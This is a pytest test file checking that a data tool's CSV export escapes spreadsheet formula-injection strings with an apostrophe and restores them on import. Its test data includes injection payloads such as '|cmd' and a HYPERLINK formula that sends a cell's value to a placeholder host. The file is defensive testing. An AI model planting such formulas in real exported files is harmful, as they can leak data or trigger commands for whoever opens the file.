"""Test that texts that a spreadsheet would execute are written with an apostrophe and read back without it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from commands import Youden
from youden import read_pool
from youden.data.exporters.plain_tables import write_tables
from youden.data.pools.pool_reader import write_pool
from youden.types import Agent, Item, Pool

RUN = [
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", "|cmd", "%x", "＝1", "＋1+1", "－x", "＠x", "\tx", "\rx", "\n=x", "  =1", "\u3000-x",
    '=HYPERLINK("http://x.example?"&A1)', "=a,b\n=c",
]  # fmt: skip
SHOWN = ["a=b", "", "'", "'=1", "''+x", "'quoted' -x", "-0.5", "+1e-3", "-7", "1-2", "plain"]


@pytest.fixture
def guarded_pool() -> Pool:
    texts = np.array([RUN, [*SHOWN, *RUN[len(SHOWN) :]], ["x"] * len(RUN)], dtype=object)
    items = tuple(Item(f"i{n}", RUN[n - 1]) for n in range(len(RUN)))
    return Pool((Agent("a"), Agent("-3", "g"), Agent("x")), items, texts, "pool")


def fields(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))


def same(read: Pool, pool: Pool) -> None:
    assert read.texts.tolist() == pool.texts.tolist()
    assert [item.prompt for item in read.items] == [item.prompt for item in pool.items]
    assert [(agent.id, agent.group) for agent in read.agents] == [(agent.id, agent.group) for agent in pool.agents]


def test_exported_csv_fields_are_not_executed_and_read_back_unchanged(
    guarded_pool: Pool, youden: Youden, tmp_path: Path
) -> None:
    write_pool(guarded_pool, tmp_path / "pool")
    youden("export", "pool", "out.csv").well()
    rows = fields(tmp_path / "out.csv")
    runs = [field for row in rows for field in row.values() if field.lstrip()[:1] in set("=+-@|%＝＋－＠") - {""}]
    assert sorted(set(runs)) == ["+1e-3", "-0.5", "-3", "-7"], "numbers are shown as they are"
    assert [row["text"] for row in rows[: len(RUN)]] == [f"'{text}" for text in RUN]
    assert [row["text"] for row in rows[len(RUN) : len(RUN) + len(SHOWN)]] == SHOWN
    assert {row["guarded"] for row in rows} == {"text prompt", "prompt"}
    same(read_pool(tmp_path / "out.csv"), guarded_pool)
    same(
        read_pool(pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False, lineterminator=None)),
        guarded_pool,
    )


@pytest.mark.parametrize("command", ["init", "import"])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_importing_a_guarded_table_restores_the_original_texts(
    form: str, command: str, guarded_pool: Pool, youden: Youden, tmp_path: Path
) -> None:
    write_pool(guarded_pool, tmp_path / "mine")
    youden("export", "mine", "out.csv").well()
    file = "out.csv"
    if form == "xlsx":  # opened and saved by a spreadsheet, which keeps the apostrophe
        book = openpyxl.Workbook()
        for row in csv.reader(io.StringIO((tmp_path / file).read_bytes().decode(), newline="")):
            book.active.append([field or None for field in row])
        file = "out.xlsx"
        book.save(tmp_path / file)
    words = ("init", file) if command == "init" else ("import", "table", file, "--out", "pools/out")
    youden(*words).well()
    read = read_pool(tmp_path / ("pools/out" if (tmp_path / "pools/out").exists() else file))
    texts = {item.id: text for item, text in zip(read.items, read.texts[0].tolist(), strict=True)}
    assert [texts[f"i{n}"] for n in range(len(RUN)) if "\r" not in RUN[n]] == [text for text in RUN if "\r" not in text]


def test_cells_exported_as_raw_are_unchanged(guarded_pool: Pool, youden: Youden, tmp_path: Path) -> None:
    write_pool(guarded_pool, tmp_path / "pool")
    youden("export", "pool", "out.csv", "--raw-cells").well()
    rows = fields(tmp_path / "out.csv")
    assert [row["text"] for row in rows[: len(RUN)]] == RUN
    assert "guarded" not in rows[0]
    same(read_pool(tmp_path / "out.csv"), guarded_pool)


@pytest.mark.parametrize("ending", [".jsonl", ".parquet"])
def test_only_csv_files_are_guarded(ending: str, guarded_pool: Pool, youden: Youden, tmp_path: Path) -> None:
    write_pool(guarded_pool, tmp_path / "pool")
    youden("export", "pool", f"out{ending}").well()
    youden("import", "table", f"out{ending}", "--out", "again").well()
    same(read_pool(tmp_path / "again"), guarded_pool)


def test_numbers_and_tables_without_formulas_are_unchanged(tmp_path: Path) -> None:
    import pyarrow as pa

    table = pa.table({"value": [-0.5, 1.0], "count": [-3, 4], "text": ["a", None]})
    write_tables(tmp_path / "t.csv", {"t": table})
    assert (tmp_path / "t.csv").read_text() == '"value","count","text"\n-0.5,-3,"a"\n1,4,\n'


def test_an_apostrophe_in_a_foreign_table_is_kept(youden: Youden, tmp_path: Path) -> None:
    rows = [("agent", "item", "text"), *((f"a{i}", f"i{j}", "'=1 is a formula") for i in range(2) for j in range(3))]
    (tmp_path / "t.csv").write_text("\n".join(map(",".join, rows)), encoding="utf-8")
    assert read_pool(tmp_path / "t.csv").texts[0, 0] == "'=1 is a formula"
    youden("import", "table", "t.csv", "--out", "again").well()
    assert read_pool(tmp_path / "again").texts[0, 0] == "'=1 is a formula"
